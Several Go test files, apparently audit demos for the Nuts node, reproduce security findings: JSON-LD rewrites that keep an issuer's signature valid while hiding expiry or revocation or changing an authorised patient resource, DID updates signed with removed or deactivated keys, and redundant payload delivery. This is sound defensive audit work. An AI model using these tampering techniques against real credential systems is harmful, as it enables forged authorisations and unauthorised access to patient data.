	// The property: the payload of T1 is sent only to a peer whose verified node DID is on T1's decrypted list.
	assert.NotEqual(t, secretPayload, response.Data,
		"payload of private transaction T1 (participants: victim, partner) was sent to %s", attackerDID)
	assert.Empty(t, response.Data)
}
