package verifier

// Demo for audit finding C01/finding-1.
//
// A JSON-LD proof signs the RDF dataset the document expands to, but the node reads the document as plain JSON.
// JSON-LD offers several ways to write the same dataset with a different JSON shape. Inside the free-form parts
// of a credential (credentialSubject, credentialStatus) these survive parsing, so somebody who holds a validly signed
// credential can move signed statements to a place where the node does not look for them:
//   - the expirationDate is moved into an "@included" block: the node no longer sees an expiration date,
//   - the credentialStatus is rewritten with IRIs instead of terms: the node no longer recognises the StatusList2021Entry.
//
// In both cases the signature remains valid, and the node reports an expired/revoked credential as valid.

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"path"
	"testing"
	"time"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/jsonld"
	"github.com/nuts-foundation/nuts-node/storage/orm"
	testIO "github.com/nuts-foundation/nuts-node/test/io"
	"github.com/nuts-foundation/nuts-node/vcr/credential"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/signature"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/nuts-foundation/nuts-node/vcr/trust"
	"github.com/nuts-foundation/nuts-node/vcr/types"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

const (
	demoF1Issuer        = "did:nuts:4tzMaWfpizVKeA8fscC3JTdWBc3asUWWMj5hUFHdWX3H"
	demoF1KID           = demoF1Issuer + "#key-1"
	demoF1CredentialID  = demoF1Issuer + "#d2aa8189-db59-4dad-a3e5-60ca54f8fcc0"
	demoF1StatusListURL = "https://issuer.example.com/statuslist/1"
	demoF1RevokedIndex  = 5
)

// demoF1KeyResolver resolves exactly one key: the issuer's assertion key.
type demoF1KeyResolver struct {
	kid string
	key crypto.PublicKey
}

func (d demoF1KeyResolver) ResolveKeyByID(keyID string, _ *resolver.ResolveMetadata, _ resolver.RelationType) (crypto.PublicKey, error) {
	if keyID != d.kid {
		return nil, resolver.ErrKeyNotFound
	}
	return d.key, nil
}

func (d demoF1KeyResolver) ResolveKey(_ did.DID, _ *time.Time, _ resolver.RelationType) (string, crypto.PublicKey, error) {
	return d.kid, d.key, nil
}

// demoF1HTTPClient serves the StatusList2021Credential.
type demoF1HTTPClient struct {
	documents map[string]string
}

func (d demoF1HTTPClient) Do(req *http.Request) (*http.Response, error) {
	body, ok := d.documents[req.URL.String()]
	if !ok {
		return &http.Response{StatusCode: http.StatusNotFound, Body: io.NopCloser(bytes.NewReader(nil))}, nil
	}
	return &http.Response{StatusCode: http.StatusOK, Body: io.NopCloser(bytes.NewReader([]byte(body)))}, nil
}

type demoF1Env struct {
	verifier Verifier
	sign     func(t *testing.T, documentJSON string) string
}

// demoF1Setup creates a real verifier (real JSON-LD processing, real signature verification, real StatusList2021 verification).
// Only DID resolution, the (empty) revocation store and the HTTP transport are stubbed.
func demoF1Setup(t *testing.T) demoF1Env {
	ctx := audit.TestContext()
	ctrl := gomock.NewController(t)
	jsonldManager := jsonld.NewTestJSONLDManager(t)
	keyStore := nutsCrypto.NewMemoryCryptoInstance(t)
	_, publicKey, err := keyStore.New(ctx, nutsCrypto.StringNamingFunc(demoF1KID))
	require.NoError(t, err)

	sign := func(t *testing.T, documentJSON string) string {
		document := map[string]interface{}{}
		require.NoError(t, json.Unmarshal([]byte(documentJSON), &document))
		suite := signature.JSONWebSignature2020{ContextLoader: jsonldManager.DocumentLoader(), Signer: keyStore}
		created := time.Date(2021, 12, 24, 13, 21, 29, 0, time.UTC)
		signed, err := proof.NewLDProof(proof.ProofOptions{Created: created}).Sign(ctx, document, suite, demoF1KID)
		require.NoError(t, err)
		result, _ := json.Marshal(signed)
		return string(result)
	}

	// The issuer's status list, in which the credential's index is set (=revoked).
	bits := make([]byte, 16*1024)
	bits[demoF1RevokedIndex/8] |= 1 << (7 - demoF1RevokedIndex%8)
	var compressed bytes.Buffer
	gz := gzip.NewWriter(&compressed)
	_, _ = gz.Write(bits)
	_ = gz.Close()
	statusListCredential := sign(t, `{
  "@context": ["https://www.w3.org/2018/credentials/v1", "https://w3id.org/vc/status-list/2021/v1"],
  "id": "`+demoF1StatusListURL+`",
  "type": ["VerifiableCredential", "StatusList2021Credential"],
  "issuer": "`+demoF1Issuer+`",
  "issuanceDate": "2021-12-24T13:21:29Z",
  "credentialSubject": {
    "id": "`+demoF1StatusListURL+`",
    "type": "StatusList2021",
    "statusPurpose": "revocation",
    "encodedList": "`+base64.RawURLEncoding.EncodeToString(compressed.Bytes())+`"
  }
}`)

	didResolver := resolver.NewMockDIDResolver(ctrl)
	didResolver.EXPECT().Resolve(did.MustParseDID(demoF1Issuer), gomock.Any()).Return(&did.Document{}, &resolver.DocumentMetadata{}, nil).AnyTimes()
	store := NewMockStore(ctrl)
	store.EXPECT().GetRevocations(gomock.Any()).Return(nil, ErrNotFound).AnyTimes()
	statusList := revocation.NewStatusList2021(orm.NewTestDatabase(t), demoF1HTTPClient{documents: map[string]string{demoF1StatusListURL: statusListCredential}}, "")
	trustConfig := trust.NewConfig(path.Join(testIO.TestDirectory(t), "trust.yaml"))
	instance := NewVerifier(store, didResolver, demoF1KeyResolver{kid: demoF1KID, key: publicKey}, jsonldManager, trustConfig, statusList)
	return demoF1Env{verifier: instance, sign: sign}
}

func demoF1Parse(t *testing.T, document map[string]interface{}) vc.VerifiableCredential {
	data, err := json.Marshal(document)
	require.NoError(t, err)
	result, err := vc.ParseVerifiableCredential(string(data))
	require.NoError(t, err)
	return *result
}

func demoF1Verify(t *testing.T, instance Verifier, credentialToVerify vc.VerifiableCredential) error {
	t.Helper()
	var err error
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer func() {
			if r := recover(); r != nil {
				err = errors.New("panic")
			}
		}()
		// allowUntrusted=true: trust is not what this demo is about. checkSignature=true, validAt=now.
		err = instance.Verify(credentialToVerify, true, true, nil)
	}()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		t.Fatal("timeout")
	}
	return err
}

// An expired credential: expirationDate is 2022-01-01.
func TestDemoF1_ExpiredCredentialVerifiesAfterMovingExpirationDateIntoIncludedBlock(t *testing.T) {
	env := demoF1Setup(t)
	signedJSON := env.sign(t, `{
  "@context": ["https://www.w3.org/2018/credentials/v1", "https://nuts.nl/credentials/v1"],
  "id": "`+demoF1CredentialID+`",
  "type": ["NutsOrganizationCredential", "VerifiableCredential"],
  "issuer": "`+demoF1Issuer+`",
  "issuanceDate": "2021-12-24T13:21:29Z",
  "expirationDate": "2022-01-01T00:00:00Z",
  "credentialSubject": {
    "id": "did:nuts:B8PUHs2AUHbFF1xLLK4eZjgErEcMXHxs68FteY7NDtCY",
    "organization": {"name": "CareBears", "city": "Caretown"}
  }
}`)

	// sanity checks: the credential is authentic, but expired
	original := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &original))
	validAt := time.Date(2021, 12, 25, 0, 0, 0, 0, time.UTC)
	require.NoError(t, env.verifier.Verify(demoF1Parse(t, original), true, true, &validAt), "credential should be valid before it expired")
	require.ErrorIs(t, demoF1Verify(t, env.verifier, demoF1Parse(t, original)), types.ErrCredentialNotValidAtTime, "credential should be expired now")

	// The holder (no access to the issuer's key) moves the expirationDate to a place where the node does not look for it.
	// The document still expands to exactly the same RDF dataset, so the issuer's signature still matches.
	tampered := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &tampered))
	expirationDate := tampered["expirationDate"]
	delete(tampered, "expirationDate")
	tampered["credentialSubject"].(map[string]interface{})["@included"] = []interface{}{
		map[string]interface{}{
			"id":             demoF1CredentialID,
			"type":           "VerifiableCredential",
			"expirationDate": expirationDate,
		},
	}
	tamperedCredential := demoF1Parse(t, tampered)
	t.Logf("tampered credential: %s", func() string { b, _ := json.Marshal(tamperedCredential); return string(b) }())
	assert.Nil(t, tamperedCredential.ExpirationDate, "the node does not see an expiration date any more")

	err := demoF1Verify(t, env.verifier, tamperedCredential)

	assert.Error(t, err, "PROPERTY VIOLATED: a credential that expired on 2022-01-01 is reported as valid today, "+
		"after its expirationDate (a date the node acts upon) was moved; the change must make verification fail")
}

// A revoked credential: its index in the issuer's StatusList2021Credential is set.
func TestDemoF1_RevokedCredentialVerifiesAfterRewritingCredentialStatusWithIRIs(t *testing.T) {
	env := demoF1Setup(t)
	signedJSON := env.sign(t, `{
  "@context": ["https://www.w3.org/2018/credentials/v1", "https://nuts.nl/credentials/v1", "https://w3id.org/vc/status-list/2021/v1"],
  "id": "`+demoF1CredentialID+`",
  "type": ["NutsOrganizationCredential", "VerifiableCredential"],
  "issuer": "`+demoF1Issuer+`",
  "issuanceDate": "2021-12-24T13:21:29Z",
  "credentialSubject": {
    "id": "did:nuts:B8PUHs2AUHbFF1xLLK4eZjgErEcMXHxs68FteY7NDtCY",
    "organization": {"name": "CareBears", "city": "Caretown"}
  },
  "credentialStatus": {
    "id": "`+demoF1StatusListURL+`#5",
    "type": "StatusList2021Entry",
    "statusPurpose": "revocation",
    "statusListIndex": "5",
    "statusListCredential": "`+demoF1StatusListURL+`"
  }
}`)

	// sanity check: the credential is authentic, but revoked
	original := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &original))
	require.ErrorIs(t, demoF1Verify(t, env.verifier, demoF1Parse(t, original)), types.ErrRevoked, "credential should be revoked")

	// The holder rewrites the credentialStatus using the IRIs the terms stand for. Same RDF dataset, so same signature,
	// but the node does not recognise the StatusList2021Entry any more and skips the revocation check.
	const statusListNS = "https://w3id.org/vc/status-list#"
	tampered := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &tampered))
	tampered["credentialStatus"] = map[string]interface{}{
		"id":                                  demoF1StatusListURL + "#5",
		"type":                                statusListNS + "StatusList2021Entry",
		statusListNS + "statusPurpose":        "revocation",
		statusListNS + "statusListIndex":      "5",
		statusListNS + "statusListCredential": map[string]interface{}{"id": demoF1StatusListURL},
	}
	tamperedCredential := demoF1Parse(t, tampered)
	t.Logf("tampered credential: %s", func() string { b, _ := json.Marshal(tamperedCredential); return string(b) }())

	err := demoF1Verify(t, env.verifier, tamperedCredential)

	assert.Error(t, err, "PROPERTY VIOLATED: a revoked credential is reported as valid after its status reference "+
		"(which the node acts upon) was rewritten; the change must make verification fail")
}

// A NutsAuthorizationCredential that authorizes reading /Patient/1.
func TestDemoF1_AuthorizedResourceIsAlteredWithNestedContext(t *testing.T) {
	env := demoF1Setup(t)
	signedJSON := env.sign(t, `{
  "@context": ["https://www.w3.org/2018/credentials/v1", "https://nuts.nl/credentials/v1"],
  "id": "`+demoF1CredentialID+`",
  "type": ["NutsAuthorizationCredential", "VerifiableCredential"],
  "issuer": "`+demoF1Issuer+`",
  "issuanceDate": "2021-12-24T13:21:29Z",
  "credentialSubject": {
    "id": "did:nuts:B8PUHs2AUHbFF1xLLK4eZjgErEcMXHxs68FteY7NDtCY",
    "purposeOfUse": "eOverdracht-receiver",
    "resources": [{"path": "/Patient/1", "operations": ["read"]}]
  }
}`)

	// sanity check: the credential is valid
	original := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &original))
	require.NoError(t, demoF1Verify(t, env.verifier, demoF1Parse(t, original)))

	// The holder changes the path. The terms inside "resources" are not @protected by the Nuts context, so a nested @context can
	// redefine "path" in such a way that its value does not end up in the RDF dataset (a relative IRI without base is dropped),
	// and define a new term for the signed value. Every member is defined, and the dataset is exactly the one that was signed.
	tampered := map[string]interface{}{}
	require.NoError(t, json.Unmarshal([]byte(signedJSON), &tampered))
	tampered["credentialSubject"].(map[string]interface{})["resources"] = []interface{}{
		map[string]interface{}{
			"@context": map[string]interface{}{
				"@base":  nil,
				"path":   map[string]interface{}{"@id": "https://nuts.nl/credentials/v1#path", "@type": "@id"},
				"signed": "https://nuts.nl/credentials/v1#path",
			},
			"path":       "/Patient/2",
			"signed":     "/Patient/1",
			"operations": []interface{}{"read"},
		},
	}
	tamperedCredential := demoF1Parse(t, tampered)
	t.Logf("tampered credential: %s", func() string { b, _ := json.Marshal(tamperedCredential); return string(b) }())
	var subjects []credential.NutsAuthorizationCredentialSubject
	require.NoError(t, tamperedCredential.UnmarshalCredentialSubject(&subjects))
	require.Equal(t, "/Patient/2", subjects[0].Resources[0].Path, "this is what the node (and the resource server it reports to) reads")

	err := demoF1Verify(t, env.verifier, tamperedCredential)

	assert.Error(t, err, "PROPERTY VIOLATED: the issuer authorized /Patient/1, the credential was changed into an authorization for /Patient/2 "+
		"(a claim the node reports), but it still verifies")
}

var _ = context.Background
