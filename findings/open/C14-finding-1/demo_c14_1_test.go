package dag

import (
	"context"
	"encoding/binary"
	"path"
	"sync/atomic"
	"testing"

	"github.com/nuts-foundation/go-stoabs"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/test/io"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Property C14: "Once a subscriber's completion has been recorded it is not called again for that event".
//
// state.WritePayload (reached from the network through v2.handleTransactionPayload, for every TransactionPayload message
// a peer sends for a transaction that is on the DAG) saves and emits a payload event unconditionally, also when the
// payload is already in the payload store and the subscriber finished the event long ago.
func TestDemoC14_1_PayloadRedeliveredAfterCompletion(t *testing.T) {
	ctx := context.Background()
	setup := func(t *testing.T) (State, Notifier, *atomic.Int32) {
		testDir := io.TestDirectory(t)
		db := storage.CreateTestBBoltStore(t, path.Join(testDir, "test.db"))
		s, err := NewState(db)
		require.NoError(t, err)
		require.NoError(t, s.Start())
		t.Cleanup(func() { _ = s.Shutdown() })

		calls := new(atomic.Int32)
		subscriber, err := s.Notifier("demo", func(event Event) (bool, error) {
			calls.Add(1)
			return true, nil // completed
		}, WithPersistency(db), WithSelectionFilter(func(event Event) bool {
			return event.Type == PayloadEventType
		}))
		require.NoError(t, err)
		return s, subscriber, calls
	}

	t.Run("public transaction, payload delivered with the transaction", func(t *testing.T) {
		s, subscriber, calls := setup(t)
		payload := make([]byte, 4)
		binary.BigEndian.PutUint32(payload, 0)
		tx, _, _ := CreateTestTransaction(0) // payload hash = hash of payload above
		require.NoError(t, s.Add(ctx, tx, payload))
		require.Equal(t, int32(1), calls.Load(), "subscriber must have been called once")
		assertShelfEmpty(t, subscriber)

		// a peer sends (again) the payload of this transaction: v2.handleTransactionPayload -> state.WritePayload
		require.NoError(t, s.WritePayload(ctx, tx, tx.PayloadHash(), payload))

		assert.Equal(t, int32(1), calls.Load(), "subscriber was called again for an event it already completed")
	})

	t.Run("private transaction, two participants answer the payload query", func(t *testing.T) {
		s, subscriber, calls := setup(t)
		payload := []byte("private payload")
		root, _, _ := CreateTestTransaction(0)
		tx, _, _ := CreateTestTransactionEx(1, hash.SHA256Sum(payload), EncryptedPAL{{1}, {2}}, root)
		require.NoError(t, s.Add(ctx, tx, nil))
		require.Equal(t, int32(0), calls.Load())

		// first answer
		require.NoError(t, s.WritePayload(ctx, tx, tx.PayloadHash(), payload))
		require.Equal(t, int32(1), calls.Load(), "subscriber must have been called once")
		assertShelfEmpty(t, subscriber)
		// second answer (the query is broadcast to all participants, and repeated on every retry)
		require.NoError(t, s.WritePayload(ctx, tx, tx.PayloadHash(), payload))

		assert.Equal(t, int32(1), calls.Load(), "subscriber was called again for an event it already completed")
	})
}

func assertShelfEmpty(t *testing.T, n Notifier) {
	t.Helper()
	p := n.(*notifier)
	count := 0
	require.NoError(t, p.db.ReadShelf(context.Background(), p.shelfName(), func(reader stoabs.Reader) error {
		return reader.Iterate(func(_ stoabs.Key, _ []byte) error {
			count++
			return nil
		}, stoabs.BytesKey{})
	}))
	require.Equal(t, 0, count, "completion must have been recorded (job removed from the shelf)")
}
