package didnuts

// Demo for audit finding C09/1: the update authorization is evaluated against *any* document version the transaction's
// prevs refer to, instead of against the version(s) the update succeeds.
//
// Everything here is real: real signed network transactions, the real DAG signature verifier (network/dag/verifier.go),
// the real ambassador, resolver and DID store. Only network.Transactions (DiscoverServices) is mocked.

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwk"
	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/vdr/didnuts/didstore"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

type c09aEnv struct {
	t        *testing.T
	store    didstore.Store
	amb      *ambassador
	verifier dag.Verifier
}

func newC09aEnv(t *testing.T) *c09aEnv {
	store := didstore.NewTestStore(t)
	nw := network.NewMockTransactions(gomock.NewController(t))
	nw.EXPECT().DiscoverServices(gomock.Any()).AnyTimes()
	// same wiring as NewAmbassador() / network.Configure()
	keyResolver := dag.SourceTXKeyResolver{Resolver: Resolver{Store: store}}
	return &c09aEnv{
		t:     t,
		store: store,
		amb: &ambassador{
			networkClient: nw,
			didStore:      store,
			keyResolver:   keyResolver,
			didResolver:   &Resolver{Store: store},
		},
		verifier: dag.NewTransactionSignatureVerifier(keyResolver),
	}
}

type c09aKey struct{ priv *ecdsa.PrivateKey }

func newC09aKey() c09aKey {
	k, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	return c09aKey{priv: k}
}

// did returns the did:nuts DID that is derived from this key
func (k c09aKey) did() did.DID {
	j, _ := jwk.FromRaw(k.priv.Public())
	tp, _ := nutsCrypto.Thumbprint(j)
	return did.MustParseDID("did:nuts:" + tp)
}

// vm returns a valid Nuts verification method (id = <owner>#<key thumbprint>) for this key
func (k c09aKey) vm(owner did.DID) *did.VerificationMethod {
	j, _ := jwk.FromRaw(k.priv.Public())
	_ = jwk.AssignKeyID(j)
	vm, _ := did.NewVerificationMethod(did.DIDURL{DID: owner, Fragment: j.KeyID()}, ssi.JsonWebKey2020, owner, k.priv.Public())
	return vm
}

func (k c09aKey) kid(owner did.DID) string { return k.vm(owner).ID.String() }

func c09aDoc(id did.DID, controllers []did.DID, capInvKeys ...c09aKey) did.Document {
	doc := did.Document{Context: []interface{}{did.DIDContextV1URI()}, ID: id, Controller: controllers}
	for _, k := range capInvKeys {
		doc.AddCapabilityInvocation(k.vm(id))
	}
	return doc
}

// publish does what the network does with a received DID document transaction:
// it builds a real signed transaction (embed=true: `jwk` header, creation; embed=false: `kid` header, update),
// lets the DAG signature verifier check it and then hands it to the ambassador.
func (e *c09aEnv) publish(doc did.Document, signer c09aKey, kid string, embed bool, signingTime time.Time, prevs ...dag.Transaction) (dag.Transaction, error) {
	payload, err := json.Marshal(doc)
	require.NoError(e.t, err)
	var prevRefs []hash.SHA256Hash
	lc := uint32(0)
	for _, p := range prevs {
		prevRefs = append(prevRefs, p.Ref())
		if p.Clock()+1 > lc {
			lc = p.Clock() + 1
		}
	}
	unsigned, err := dag.NewTransaction(hash.SHA256Sum(payload), DIDDocumentType, prevRefs, nil, lc)
	require.NoError(e.t, err)
	privJWK, _ := jwk.FromRaw(signer.priv)
	_ = privJWK.Set(jwk.KeyIDKey, kid)
	var embeddedKey crypto.PublicKey
	if embed {
		embeddedKey = signer.priv.Public()
	}
	tx, err := dag.NewTransactionSigner(nutsCrypto.MemoryJWTSigner{Key: privJWK}, kid, embeddedKey).Sign(audit.TestContext(), unsigned, signingTime)
	require.NoError(e.t, err)
	if err := e.verifier(nil, tx); err != nil {
		return tx, err // refused by the DAG
	}
	return tx, e.amb.callback(tx, payload)
}

func (e *c09aEnv) latest(id did.DID) (did.Document, resolver.DocumentMetadata) {
	doc, md, err := e.store.Resolve(id, &resolver.ResolveMetadata{AllowDeactivated: true})
	require.NoError(e.t, err)
	return *doc, *md
}

// c09aAuthorizes returns whether the document lists the key for capabilityInvocation
func c09aAuthorizes(doc did.Document, k c09aKey) bool {
	j, _ := jwk.FromRaw(k.priv.Public())
	tp, _ := j.Thumbprint(crypto.SHA256)
	for _, ci := range doc.CapabilityInvocation {
		if cj, err := ci.JWK(); err == nil && cj != nil {
			if ctp, _ := cj.Thumbprint(crypto.SHA256); string(ctp) == string(tp) {
				return true
			}
		}
	}
	return false
}

// A key that was removed from the document overwrites the very version that removed it.
func TestDemoC09_RemovedKeyOverwritesTheVersionThatRemovedIt(t *testing.T) {
	e := newC09aEnv(t)
	t0 := time.Now().Add(-time.Hour).Truncate(time.Second)
	oldKey, newKey, attackerKey := newC09aKey(), newC09aKey(), newC09aKey()
	id := oldKey.did()

	// version 0: DID is created with oldKey
	txV0, err := e.publish(c09aDoc(id, nil, oldKey), oldKey, oldKey.kid(id), true, t0)
	require.NoError(t, err)
	// version 1: owner rotates the key (oldKey is compromised): oldKey is removed, newKey is added
	txV1, err := e.publish(c09aDoc(id, nil, newKey), oldKey, oldKey.kid(id), false, t0.Add(time.Minute), txV0)
	require.NoError(t, err)
	v1, _ := e.latest(id)
	require.False(t, c09aAuthorizes(v1, oldKey), "oldKey is removed")
	require.True(t, c09aAuthorizes(v1, newKey))

	// control: oldKey can't update version 1
	_, err = e.publish(c09aDoc(id, nil, attackerKey), oldKey, oldKey.kid(id), false, t0.Add(2*time.Minute), txV1)
	require.Error(t, err, "control: update of version 1 signed by a removed key must be refused")

	// attack: same update, same removed key, but the transaction names version 0 AND version 1 as its predecessors (version 0 first).
	// It succeeds version 1 (that's what the DID store makes of it, see below), in which oldKey is not a capabilityInvocation key.
	_, err = e.publish(c09aDoc(id, nil, attackerKey), oldKey, oldKey.kid(id), false, t0.Add(2*time.Minute), txV0, txV1)

	latest, md := e.latest(id)
	assert.Error(t, err, "update that succeeds version 1 is signed by a key that version 1 does not list: must be refused")
	assert.False(t, c09aAuthorizes(latest, attackerKey), "rejected document changed which keys are authorized for the DID")
	assert.True(t, c09aAuthorizes(latest, newKey), "the legitimate key is gone")
	if err == nil {
		t.Logf("the removed key replaced version 1 (hash %s): previousHash=%s conflicted=%v", v1hash(t, e, id, txV1), md.PreviousHash, md.IsConflicted())
	}
}

func v1hash(t *testing.T, e *c09aEnv, id did.DID, tx dag.Transaction) hash.SHA256Hash {
	ref := tx.Ref()
	_, md, err := e.store.Resolve(id, &resolver.ResolveMetadata{AllowDeactivated: true, SourceTransaction: &ref})
	require.NoError(t, err)
	return md.Hash
}

// The key of a deactivated controller updates the controlled document, although the transaction itself refers to the deactivation.
func TestDemoC09_KeyOfDeactivatedControllerUpdatesControlledDocument(t *testing.T) {
	e := newC09aEnv(t)
	t0 := time.Now().Add(-time.Hour).Truncate(time.Second)
	controllerKey, subjectKey, attackerKey := newC09aKey(), newC09aKey(), newC09aKey()
	controllerID, subjectID := controllerKey.did(), subjectKey.did()

	// controller C, and document V that is controlled by C (V has no keys of its own)
	txC0, err := e.publish(c09aDoc(controllerID, nil, controllerKey), controllerKey, controllerKey.kid(controllerID), true, t0)
	require.NoError(t, err)
	txV0, err := e.publish(c09aDoc(subjectID, []did.DID{controllerID}), subjectKey, subjectKey.kid(subjectID), true, t0.Add(time.Minute))
	require.NoError(t, err)

	// control: C can update V
	withService := c09aDoc(subjectID, []did.DID{controllerID})
	withService.Service = []did.Service{{ID: ssi.MustParseURI(subjectID.String() + "#1"), Type: "test", ServiceEndpoint: "https://example.com"}}
	txV1, err := e.publish(withService, controllerKey, controllerKey.kid(controllerID), false, t0.Add(2*time.Minute), txV0, txC0)
	require.NoError(t, err, "control: active controller must be able to update")

	// C is deactivated (e.g. because its key leaked)
	txCd, err := e.publish(c09aDoc(controllerID, nil), controllerKey, controllerKey.kid(controllerID), false, t0.Add(3*time.Minute), txC0)
	require.NoError(t, err)
	_, _, err = (&Resolver{Store: e.store}).Resolve(controllerID, nil)
	require.ErrorIs(t, err, resolver.ErrDeactivated)

	// control: update of V signed with C's key, referring to V's current version and C's current (deactivated) version
	_, err = e.publish(c09aDoc(subjectID, nil, attackerKey), controllerKey, controllerKey.kid(controllerID), false, t0.Add(4*time.Minute), txV1, txCd)
	require.Error(t, err, "control: key of deactivated controller must be refused")

	// attack: same, but the transaction additionally refers to the old (active) version of C.
	_, err = e.publish(c09aDoc(subjectID, nil, attackerKey), controllerKey, controllerKey.kid(controllerID), false, t0.Add(4*time.Minute), txV1, txCd, txC0)

	latest, _ := e.latest(subjectID)
	assert.Error(t, err, "update is signed by a key of a controller that is deactivated in a version the transaction itself refers to: must be refused")
	assert.False(t, c09aAuthorizes(latest, attackerKey), "rejected document changed which keys are authorized for the DID")
	assert.Len(t, latest.Controller, 1, "rejected document changed the controllers of the DID")
}

// Same for a key that was removed from a (still active) controller.
func TestDemoC09_RemovedControllerKeyUpdatesControlledDocument(t *testing.T) {
	e := newC09aEnv(t)
	t0 := time.Now().Add(-time.Hour).Truncate(time.Second)
	oldControllerKey, newControllerKey, subjectKey, attackerKey := newC09aKey(), newC09aKey(), newC09aKey(), newC09aKey()
	controllerID, subjectID := oldControllerKey.did(), subjectKey.did()

	txC0, err := e.publish(c09aDoc(controllerID, nil, oldControllerKey), oldControllerKey, oldControllerKey.kid(controllerID), true, t0)
	require.NoError(t, err)
	txV0, err := e.publish(c09aDoc(subjectID, []did.DID{controllerID}), subjectKey, subjectKey.kid(subjectID), true, t0.Add(time.Minute))
	require.NoError(t, err)
	// C rotates its key
	txC1, err := e.publish(c09aDoc(controllerID, nil, newControllerKey), oldControllerKey, oldControllerKey.kid(controllerID), false, t0.Add(2*time.Minute), txC0)
	require.NoError(t, err)

	// control: C's new key can update V
	withService := c09aDoc(subjectID, []did.DID{controllerID})
	withService.Service = []did.Service{{ID: ssi.MustParseURI(subjectID.String() + "#1"), Type: "test", ServiceEndpoint: "https://example.com"}}
	txV1, err := e.publish(withService, newControllerKey, newControllerKey.kid(controllerID), false, t0.Add(3*time.Minute), txV0, txC1)
	require.NoError(t, err, "control: current controller key must be able to update")

	// control: the removed key signs, the transaction refers to V's and C's current versions
	_, err = e.publish(c09aDoc(subjectID, nil, attackerKey), oldControllerKey, oldControllerKey.kid(controllerID), false, t0.Add(4*time.Minute), txV1, txC1)
	require.Error(t, err, "control: removed controller key must be refused")

	// attack: the removed key signs; the transaction refers to C's old version and to C's current version (which removed the key)
	_, err = e.publish(c09aDoc(subjectID, nil, attackerKey), oldControllerKey, oldControllerKey.kid(controllerID), false, t0.Add(4*time.Minute), txV1, txC0, txC1)

	latest, _ := e.latest(subjectID)
	assert.Error(t, err, "update is signed by a key that the referred-to version of the controller does not list: must be refused")
	assert.False(t, c09aAuthorizes(latest, attackerKey), "rejected document changed which keys are authorized for the DID")
}

// Guards the suggested fix: legitimate updates that refer to more than one transaction of the same DID still work.
func TestDemoC09_ConflictResolutionStillWorks(t *testing.T) {
	e := newC09aEnv(t)
	t0 := time.Now().Add(-time.Hour).Truncate(time.Second)
	key, keyA, keyB := newC09aKey(), newC09aKey(), newC09aKey()
	id := key.did()
	txV0, err := e.publish(c09aDoc(id, nil, key), key, key.kid(id), true, t0)
	require.NoError(t, err)
	// two concurrent updates -> conflict
	txA, err := e.publish(c09aDoc(id, nil, key, keyA), key, key.kid(id), false, t0.Add(time.Minute), txV0)
	require.NoError(t, err)
	txB, err := e.publish(c09aDoc(id, nil, key, keyB), key, key.kid(id), false, t0.Add(2*time.Minute), txV0)
	require.NoError(t, err)
	_, md := e.latest(id)
	require.True(t, md.IsConflicted())
	// resolve the conflict: refers to both
	_, err = e.publish(c09aDoc(id, nil, key), key, key.kid(id), false, t0.Add(3*time.Minute), txA, txB)
	require.NoError(t, err)
	latest, md := e.latest(id)
	assert.False(t, md.IsConflicted())
	assert.Len(t, latest.CapabilityInvocation, 1)
}
