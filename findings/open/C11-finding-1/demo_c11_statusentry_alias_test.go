package verifier

import (
	"context"
	"crypto"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/nuts-foundation/nuts-node/vcr/credential"
	"github.com/nuts-foundation/nuts-node/vcr/revocation"
	"github.com/nuts-foundation/nuts-node/vcr/signature"
	"github.com/nuts-foundation/nuts-node/vcr/signature/proof"
	"github.com/nuts-foundation/nuts-node/vcr/types"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

// TestDemoC11_RevokedCredentialAcceptedAfterEquivalentJSONLDRewrite shows that the holder of a revoked JSON-LD credential
// can rewrite the (signed) credentialStatus into an equivalent JSON-LD serialisation (absolute IRIs instead of the
// compact terms). The rewritten document canonicalizes to exactly the same RDF dataset, so the issuer's proof still
// verifies, but the status-list check does not recognise the entry anymore and the revoked credential is accepted.
